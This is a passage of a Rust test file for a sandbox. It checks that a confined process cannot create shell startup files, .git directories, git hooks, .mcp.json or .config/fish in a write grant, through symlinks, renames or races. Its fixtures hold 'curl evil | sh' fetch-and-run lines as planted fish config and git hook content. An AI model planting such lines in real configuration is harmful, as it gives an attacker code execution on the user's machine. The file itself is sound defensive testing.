    g.refused_then_control(plant(&g, "mknod", &["W/.bashrc"]), ".bashrc", libc::EROFS);
}

#[test]
fn protected_create_mknodat_inputrc() {
    let g = Grant::new();
    let call = plant(&g, "mknodat", &[s(&g.w), ".inputrc"]);
    g.refused_then_control(call, ".inputrc", libc::EROFS);
}

#[test]
fn protected_create_symlink_envrc() {
    let g = Grant::new();
    let call = plant(&g, "symlink", &["ok.txt", "W/.envrc"]);
    g.refused_then_control(call, ".envrc", libc::EROFS);
}

#[test]
fn protected_create_symlinkat_zshenv() {
    let g = Grant::new();
    let call = plant(&g, "symlinkat", &["ok.txt", s(&g.w), ".zshenv"]);
    g.refused_then_control(call, ".zshenv", libc::EROFS);
}

#[test]
fn protected_create_link_npmrc() {
    let g = Grant::new();
    let call = plant(&g, "link", &["W/ok.txt", "W/.npmrc"]);
    g.refused_then_control(call, ".npmrc", libc::EROFS);
}

#[test]
fn protected_create_linkat_gitconfig() {
    let g = Grant::new();
    let call = plant(&g, "linkat", &["W/ok.txt", "W/.gitconfig"]);
    g.refused_then_control(call, ".gitconfig", libc::EROFS);
}

/// A prepared directory renamed to `.git`: a whole repository whose config
/// runs `core.fsmonitor`.
#[test]
fn protected_create_rename_prepared_dir_to_git() {
    let g = Grant::new();
    let call = plant(&g, "rename", &["W/prepared_dir", "W/.git"]);
    g.refused_then_control(call, ".git", libc::EROFS);
    // The control moved it; inside it had stayed where it was.
    assert_eq!(
        std::fs::read_to_string(g.w.join(".git/config")).unwrap(),
        FSMONITOR
    );
}

#[test]
fn protected_create_rename_file_to_profile() {
    let g = Grant::new();
    let call = plant(&g, "rename", &["W/file", "W/.profile"]);
    g.refused_then_control(call, ".profile", libc::EROFS);
}

#[test]
fn protected_create_renameat_file_to_bash_login() {
    let g = Grant::new();
    let call = plant(&g, "renameat", &["W/file", "W/.bash_login"]);
    g.refused_then_control(call, ".bash_login", libc::EROFS);
}

#[test]
fn protected_create_renameat2_noreplace_to_bash_aliases() {
    let g = Grant::new();
    let call = plant(&g, "renameat2", &["W/file", "W/.bash_aliases", "noreplace"]);
    g.refused_then_control(call, ".bash_aliases", libc::EROFS);
}

/// Relative paths from a working directory in the grant: the name, and `..`
/// from a subdirectory (the path the call names is not the name it makes).
#[test]
fn protected_create_relative_paths() {
    let g = Grant::new();
    let steps = [
        step(&["cd", s(&g.w)]),
        step(&["plant", "open", ".bashrc"]),
        step(&["plant", "mkdir", ".git"]),
        step(&["cd", &g.p("sub")]),
        step(&["plant", "open", "../.mcp.json"]),
        step(&["plant", "symlink", "ok.txt", "../.envrc"]),
        step(&["plant", "openat", ".", "../.npmrc"]),
    ];
    let inside = g.inside(&steps);
    assert!(inside[0].escaped() && inside[3].escaped(), "cd failed");
    for i in [1, 2, 4, 5, 6] {
        assert_refused(&inside[i], libc::EROFS);
    }
    for name in [".bashrc", ".git", ".mcp.json", ".envrc", ".npmrc"] {
        g.assert_absent(name);
    }
    let control = g.host(&steps);
    for i in [1, 2, 4, 5, 6] {
        assert_made(&control[i]);
    }
}

/// `W/sub/../.bashrc` and `openat(fd of W/sub, "../.vscode")`.
#[test]
fn protected_create_dotdot() {
    let g = Grant::new();
    let steps = [
        plant(&g, "open", &["W/sub/../.bashrc"]),
        plant(&g, "mkdir", &["W/sub/../.vscode"]),
        plant(&g, "mkdirat", &["W/sub", "../.git"]),
        plant(&g, "rename", &["W/file", "W/sub/../.profile"]),
    ];
    let inside = g.inside(&steps);
    for p in &inside {
        assert_refused(p, libc::EROFS);
    }
    for name in [".bashrc", ".vscode", ".git", ".profile"] {
        g.assert_absent(name);
    }
    for p in g.host(&steps) {
        assert_made(&p);
    }
}

/// Other spellings of the same names: a trailing slash (`mkdir` makes a
/// directory of `.git/`), `.` and doubled slashes. `open(".bashrc/", O_CREAT)`
/// is EISDIR from the kernel itself (no control: the host refuses it too);
/// whoever handles it must not make a `.bashrc` of it.
#[test]
fn protected_create_path_spellings() {
    let g = Grant::new();
    let steps = [
        plant(&g, "mkdir", &["W/.git/"]),
        plant(&g, "mkdir", &["W/./.vscode"]),
        plant(&g, "open", &["W//.mcp.json"]),
        plant(&g, "mkdirat", &[&g.p("sub/"), "..//.idea/"]),
        plant(&g, "open", &["W/.bashrc/"]),
    ];
    let inside = g.inside(&steps);
    for p in &inside[..4] {
        assert_refused(p, libc::EROFS);
    }
    assert_blocked(&inside[4], None);
    for name in [".git", ".vscode", ".mcp.json", ".idea", ".bashrc"] {
        g.assert_absent(name);
    }
    let control = g.host(&steps);
    for p in &control[..4] {
        assert_made(p);
    }
    assert_blocked(&control[4], Some(libc::EISDIR));
}

/// Through a symlink to the grant: one there at the start (`loop -> .`), and
/// one the server makes itself (an ordinary symlink, which works).
#[test]
fn protected_create_through_a_symlink_to_the_grant() {
    let g = Grant::new();
    let steps = [
        plant(&g, "open", &["W/loop/.bashrc"]),
        plant(&g, "mkdir", &["W/loop/loop/.git"]),
        plant(&g, "link", &["W/ok.txt", "W/loop/.npmrc"]),
        plant(&g, "symlink", &[".", "W/loop2"]),
        plant(&g, "open", &["W/loop2/.mcp.json"]),
        plant(&g, "symlink", &[s(&g.w), "W/sub/abs"]),
        plant(&g, "mkdir", &["W/sub/abs/.vscode"]),
    ];
    let inside = g.inside(&steps);
    for i in [0, 1, 2, 4, 6] {
        assert_refused(&inside[i], libc::EROFS);
    }
    // The control: making a symlink is ordinary.
    assert_made(&inside[3]);
    assert_made(&inside[5]);
    for name in [".bashrc", ".git", ".npmrc", ".mcp.json", ".vscode"] {
        g.assert_absent(name);
    }
    std::fs::remove_file(g.w.join("loop2")).unwrap();
    std::fs::remove_file(g.w.join("sub/abs")).unwrap();
    for p in g.host(&steps) {
        assert_made(&p);
    }
}

/// O_CREAT through a dangling symlink creates its target: `rc -> .bashrc` and
/// `mcp -> W/.mcp.json` (absolute) were in the grant at the start.
#[test]
fn protected_create_through_a_dangling_symlink() {
    let g = Grant::new();
    let steps = [plant(&g, "open", &["W/rc"]), plant(&g, "creat", &["W/mcp"])];
    let inside = g.inside(&steps);
    for p in &inside {
        assert_blocked(p, None);
        assert_eq!(p.json["created"], false, "{}", p.json);
    }
    g.assert_absent(".bashrc");
    g.assert_absent(".mcp.json");
    // The probe checks the link, which existed: the control looks at the target.
    for p in g.host(&steps) {
        assert!(p.escaped(), "{}", p.json);
    }
    assert!(on_host(&g.w.join(".bashrc")) && on_host(&g.w.join(".mcp.json")));
}

// Nested names: `.config/fish` in a home-like grant without `.config`.

/// A grant of a home-like directory where `.config` and `.local` are missing:
/// the directories are ordinary, the protected names under them are not.
fn home_grant() -> Grant {
    let sb = Sandbox::new();
    let w = sb.env.mkdir("homegrant");
    sb.env
        .write("homegrant/prepared/fish/config.fish", "curl evil | sh\n");
    sb.env.write("homegrant/plain/app.conf", "key = value\n");
    Grant { sb, w }
}

#[test]
fn protected_create_nested_config_fish() {
    let g = home_grant();
    let steps = [
        plant(&g, "mkdir", &["W/.config"]),
        plant(&g, "mkdir", &["W/.config/fish"]),
        plant(&g, "open", &["W/.config/app.conf"]),
        plant(&g, "mkdir", &["W/.local"]),
        plant(&g, "mkdir", &["W/.local/bin"]),
        plant(&g, "mkdir", &["W/.local/share"]),
        plant(&g, "mkdir", &["W/.local/share/applications"]),
        plant(&g, "symlink", &["W/prepared/fish", "W/.config/fish"]),
    ];
    let inside = g.inside(&steps);
    for i in [0, 2, 3, 5] {
        assert_made(&inside[i]);
    }
    for i in [1, 4, 6, 7] {
        assert_refused(&inside[i], libc::EROFS);
    }
    assert!(g.w.join(".config").is_dir() && g.w.join(".config/app.conf").is_file());
    for name in [".config/fish", ".local/bin", ".local/share/applications"] {
        g.assert_absent(name);
    }
    // Control: the same names on the host (the parents exist now).
    let control = g.host(&[steps[1].clone(), steps[4].clone(), steps[6].clone()]);
    for p in &control {
        assert_made(p);
    }
}

/// A prepared directory renamed to the missing `.config` would bring
/// `fish/config.fish` along: EXDEV, so `mv` copies, and the copy fails on fish.
#[test]
fn protected_create_rename_prepared_dir_to_config() {
    let g = home_grant();
    let call = plant(&g, "rename", &["W/prepared", "W/.config"]);
    g.refused_then_control(call, ".config", libc::EXDEV);
    assert!(g.w.join(".config/fish/config.fish").is_file());
}

#[test]
fn protected_create_symlink_prepared_dir_as_config() {
    let g = home_grant();
    let call = plant(&g, "symlink", &["W/prepared", "W/.config"]);
    g.refused_then_control(call, ".config", libc::EROFS);
}

/// `mv prepared .config` with the real `mv`: it falls back to copying on
/// EXDEV, which fails on `fish`. Control: `mv plain .config` (nothing
/// protected inside) works, through the same fallback.
#[test]
fn protected_create_mv_prepared_dir_to_config() {
    let Some(mv) = find_on_path("mv") else {
        println!("skipping: no mv on PATH");
        return;
    };
    let g = home_grant();
    let policy = g.sb.env.minimal_policy();
    let mv_inside = |from: &str, to: &str| {
        let mut cmd = g.sb.env.shim([
            "--policy",
            s(&policy),
            "--write",
            s(&g.w),
            "--",
            s(&mv),
            &g.p(from),
            &g.p(to),
        ]);
        let out = run(&mut cmd, RUN);
        eprintln!(
            "mv {from} {to}: exit {}: {}",
            exit_code(out.status),
            String::from_utf8_lossy(&out.stderr)
        );
        exit_code(out.status)
    };
    assert_ne!(
        mv_inside("prepared", ".config"),
        0,
        "mv prepared .config worked"
    );
    g.assert_absent(".config/fish");
    assert!(g.w.join("prepared/fish/config.fish").is_file());
    // Control: an ordinary directory moves (a copy left behind would be in
    // .config, the source gone).
    let _ = std::fs::remove_dir_all(g.w.join(".config"));
    assert_eq!(mv_inside("plain", ".config"), 0);
    assert_eq!(
        std::fs::read_to_string(g.w.join(".config/app.conf")).unwrap(),
        "key = value\n"
    );
    assert!(!on_host(&g.w.join("plain")));
}

/// A grant of `repo/.git` (a server that commits) where `hooks` is missing:
/// the hooks directory cannot be made, by mkdir or by renaming a prepared
/// one; the rest of the git dir stays writable.
#[test]
fn protected_create_hooks_in_a_git_dir_grant() {
    let sb = Sandbox::new();
    sb.env.write("repo/.git/HEAD", "ref: refs/heads/main\n");
    sb.env.write("repo/.git/config", "[core]\n\tbare = false\n");
    sb.env.write(
        "repo/.git/prepared_hooks/post-checkout",
        "#!/bin/sh\ncurl evil | sh\n",
    );
    let g = Grant {
        w: sb.env.root.join("repo/.git"),
        sb,
    };
    let steps = [
        plant(&g, "mkdir", &["W/hooks"]),
        plant(&g, "rename", &["W/prepared_hooks", "W/hooks"]),
        plant(&g, "open", &["W/index.lock"]),
        plant(&g, "mkdir", &["W/refs"]),
    ];
    let inside = g.inside(&steps);
    assert_refused(&inside[0], libc::EROFS);
    assert_refused(&inside[1], libc::EROFS);
    assert_made(&inside[2]);
    assert_made(&inside[3]);
    g.assert_absent("hooks");
    let control = g.host(&steps[..1]);
    assert_made(&control[0]);
}

// Races: whoever checks the name must check what the kernel creates.

/// The racing creator's errors are refusals, and it did run.
#[track_caller]
fn assert_race_lost(p: &Probe, other: &str) {
    assert_blocked(p, None);
    assert!(
        p.json["calls"].as_u64() > Some(0) && p.json[other].as_u64() > Some(0),
        "the race did not run: {}",
        p.json
    );
}

#[track_caller]
fn assert_refusals_only(p: &Probe) {
    let errors = p.json["errors"].as_object().expect("errors");
    assert!(
        errors.keys().all(|e| e == "EROFS" || e == "EACCES"),
        "other errors than EROFS/EACCES: {}",
        p.json
    );
}

/// A thread flips one byte of the path (`xbashrc` / `.bashrc`) while another
/// opens it with O_CREAT: 200000 calls or 5 s, never a `.bashrc`.
#[test]
fn protected_create_race_open_path_buffer() {
    let g = Grant::new();
    let call = step(&[
        "race",
        "open",
        &g.p("xbashrc"),
        &g.p(".bashrc"),
        "200000",
        "5",
    ]);
    let inside = g.inside(std::slice::from_ref(&call));
    assert_race_lost(&inside[0], "flips");
    assert_refusals_only(&inside[0]);
    g.assert_absent(".bashrc");
    let control = g.host(&[call]);
    assert!(control[0].escaped(), "{}", control[0].json);
    assert!(on_host(&g.w.join(".bashrc")));
}

#[test]
fn protected_create_race_mkdir_path_buffer() {
    let g = Grant::new();
    let call = step(&["race", "mkdir", &g.p("xgit"), &g.p(".git"), "200000", "5"]);
    let inside = g.inside(std::slice::from_ref(&call));
    assert_race_lost(&inside[0], "flips");
    assert_refusals_only(&inside[0]);
    g.assert_absent(".git");
    let control = g.host(&[call]);
    assert!(control[0].escaped(), "{}", control[0].json);
    assert!(on_host(&g.w.join(".git")));
}

/// The race on the file system: `sub` (a directory) and `loop` (a symlink to
/// the grant) swap places atomically while another thread creates
/// `sub/.bashrc`, which is `W/.bashrc` whenever `sub` is the symlink. A
/// supervisor that resolves the path, checks it and resolves it again loses.
#[test]
fn protected_create_race_symlink_swap() {
    for (call, name) in [("open", ".bashrc"), ("mkdir", ".git")] {
        let g = Grant::new();
        let race = step(&[
            "race-swap",
            call,
            &g.p(&format!("sub/{name}")),
            &g.p(name),
            &g.p("sub"),
            &g.p("loop"),
            "200000",
            "5",
        ]);
        let inside = g.inside(std::slice::from_ref(&race));
        assert_race_lost(&inside[0], "swaps");
        g.assert_absent(name);
        // Put them back as they were (an odd number of swaps leaves them
        // exchanged), for the control.
        if g.w.join("sub").is_symlink() {
            std::fs::rename(g.w.join("sub"), g.w.join("tmp-link")).unwrap();
            std::fs::rename(g.w.join("loop"), g.w.join("sub")).unwrap();
            std::fs::rename(g.w.join("tmp-link"), g.w.join("loop")).unwrap();
        }
        let control = g.host(&[race]);
        assert!(control[0].escaped(), "{}", control[0].json);
        assert!(on_host(&g.w.join(name)));
    }
}

// Controls: ordinary creations keep working, and land on the host as before.

/// `probe ordinary DIR` worked: every step ok (a step may say it was skipped
/// for want of a kernel or file-system feature).
#[track_caller]
fn assert_ordinary(p: &Probe) {
    let mut failed = Vec::new();
    for (name, result) in p.json["steps"].as_object().expect("steps") {
        let r = result.as_str().unwrap();
        if r.starts_with("ok: skipped") {
            println!("skipping the {name} step: {r}");
        } else if !r.starts_with("ok") {
            failed.push(format!("{name}: {r}"));
        }
    }
    assert!(
        failed.is_empty(),
        "ordinary creations failed:\n  {}",
        failed.join("\n  ")
    );
}

/// In the write grant: everything works from inside, and the host sees the
/// files as the probe made them: contents, types, modes under the umask, the
/// user as owner.
#[test]
fn ordinary_creations_in_a_write_grant() {
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    let g = Grant::new();
    let inside = g.inside(&[step(&["ordinary", s(&g.w)])]);
    assert_ordinary(&inside[0]);
    let w = &g.w;
    let read = |rel: &str| std::fs::read_to_string(w.join(rel)).unwrap();
    for (rel, want) in [
        ("excl.txt", "excl\n"),
        ("trunc.txt", "second\n"),
        ("creat.txt", "creat\n"),
        ("keep.txt", "kept\n"),
        ("append.txt", "ab"),
        ("rdwr.txt", "rdwr\n"),
        ("a/b/c/deep.txt", "deep\n"),
        ("r3.txt", "renamed\n"),
        ("rd2/f.txt", "in a dir\n"),
        ("x2/f.txt", "moved\n"),
        ("x2/sub/g.txt", "moved too\n"),
        ("doc.txt", "v2\n"),
        ("n2", "three\n"),
        ("n3", "one\n"),
        ("rel.txt", "relative\n"),
        ("reldir/inner.txt", "inner\n"),
        ("at.txt", "at\n"),
        ("at2.txt", "at2\n"),
        ("athard2", "at\n"),
        (".gitignore", "target/\n"),
        (".github/workflows/ci.yml", "on: push\n"),
    ] {
        assert_eq!(read(rel), want, "{rel}");
    }
    if !inside[0].json["steps"]["tmpfile-linkat"]
        .as_str()
        .unwrap()
        .contains("skipped")
    {
        assert_eq!(read("tmpfile.txt"), "tmpfile\n");
    }
    let mkstemp = inside[0].json["steps"]["mkstemp"].as_str().unwrap();
    let mkstemp = Path::new(mkstemp.trim_start_matches("ok: "));
    assert_eq!(std::fs::read_to_string(mkstemp).unwrap(), "mkstemp\n");
    assert!(!on_host(&w.join("r1.txt")) && !on_host(&w.join("doc.txt.tmp")));
    assert_eq!(
        std::fs::read_link(w.join("link")).unwrap(),
        Path::new("excl.txt")
    );
    assert_eq!(read("link"), "excl\n");
    let meta = |rel: &str| w.join(rel).symlink_metadata().unwrap();
    assert!(meta("fifo").file_type().is_fifo() && meta("atfifo").file_type().is_fifo());
    assert!(meta("sock").file_type().is_socket());
    assert_eq!(meta("excl.txt").nlink(), 3);
    // The umask of the caller, not of whoever made the file.
    for (rel, mode) in [
        ("mode644", 0o644),
        ("mode755", 0o755),
        ("mode400", 0o400),
        ("mode600", 0o600),
        ("mode700", 0o700),
        ("fifo600", 0o600),
    ] {
        assert_eq!(meta(rel).mode() & 0o7777, mode, "{rel}");
    }
    assert_eq!(
        meta(mkstemp.file_name().unwrap().to_str().unwrap()).mode() & 0o777,
        0o600
    );
    // SAFETY: geteuid/getegid cannot fail.
    let (uid, gid) = unsafe { (libc::geteuid(), libc::getegid()) };
    for rel in [
        "excl.txt",
        "creat.txt",
        "a",
        "a/b/c/deep.txt",
        "fifo",
        "link",
        "sock",
        "mode600",
        "at.txt",
        "rd2",
    ] {
        let m = meta(rel);
        assert_eq!((m.uid(), m.gid()), (uid, gid), "{rel} is not the user's");
    }
    // Control: the probe does the same on the host.
    let control = host(
        &g.sb.env,
        &["ordinary", s(&g.sb.env.mkdir("host-ordinary"))],
    );
    assert_ordinary(&control);
}

/// In the sandbox's private /tmp, $HOME and /dev/shm (not write grants): the
/// same creations work, and none of them reaches the host.
#[test]
fn ordinary_creations_in_private_tmp_home_and_shm() {
    let sb = Sandbox::new();
    let marker = unique_marker("ordinary");
    let home = sb.env.home.join(&marker);
    let dirs = [
        format!("/tmp/{marker}"),
        s(&home).to_string(),
        format!("/dev/shm/{marker}"),
    ];
    for d in &dirs {
        let inside = sb.probe(&[], &["ordinary", d]);
        assert_ordinary(&inside);
        assert!(!on_host(Path::new(d)), "{d} reached the host");
    }
}

/// The protection is for write grants: in the private /tmp and $HOME, which
/// vanish with the session, a server clones a repository (`.git`) or writes
/// its own dotfiles as it likes.
#[test]
fn protected_names_in_private_tmp_and_home_are_ordinary() {
    let sb = Sandbox::new();
    let marker = unique_marker("private");
    let tmp = format!("/tmp/{marker}");
    let home = s(&sb.env.home).to_string();
    let steps = [
        step(&["plant", "mkdir", &tmp]),
        step(&["plant", "mkdir", &format!("{tmp}/.git")]),
        step(&["plant", "open", &format!("{tmp}/.mcp.json")]),
        step(&["plant", "open", &format!("{home}/.bashrc")]),
        step(&["plant", "mkdir", &format!("{home}/.vscode")]),
        step(&["plant", "mkdir", &format!("{home}/.config")]),
        step(&["plant", "mkdir", &format!("{home}/.config/fish")]),
    ];
    let argv = joined(&steps);
    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
    let out = sb.run(&sb.env.minimal_policy(), &[], &args);
    let lines = parse_lines(&out, "inside");
    assert_eq!(lines.len(), steps.len(), "{lines:?}");
    for p in &lines {
        eprintln!("inside  {}", p.json);
        assert_made(p);
    }
    for rel in [".bashrc", ".vscode", ".config"] {
        assert!(
            !on_host(&sb.env.home.join(rel)),
            "{rel} reached the host's home"
        );
    }
    assert!(!on_host(Path::new(&tmp)));
}

/// A protected directory the policy grants for writing by name stays
/// writable: new files in `.vscode` when `write: [W, W/.vscode]`.
#[test]
fn protected_dir_granted_by_name_stays_creatable() {
    let g = Grant::new();
    g.sb.env.write("proj/.vscode/settings.json", "{}\n");
    let vscode = g.w.join(".vscode");
    let steps = [
        plant(&g, "open", &["W/.vscode/tasks.json"]),
        plant(&g, "mkdir", &["W/.vscode/sub"]),
        plant(
            &g,
            "rename",
            &["W/.vscode/tasks.json", "W/.vscode/launch.json"],
        ),
    ];
    let argv = joined(&steps);
    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
    let out = g.sb.run(
        &g.sb.env.minimal_policy(),
        &["--write", s(&g.w), "--write", s(&vscode)],
        &args,
    );
    let lines = parse_lines(&out, "inside");
    assert_eq!(lines.len(), steps.len());
    for p in &lines {
        eprintln!("inside  {}", p.json);
        assert_made(p);
    }
    assert!(vscode.join("launch.json").is_file() && vscode.join("sub").is_dir());
}
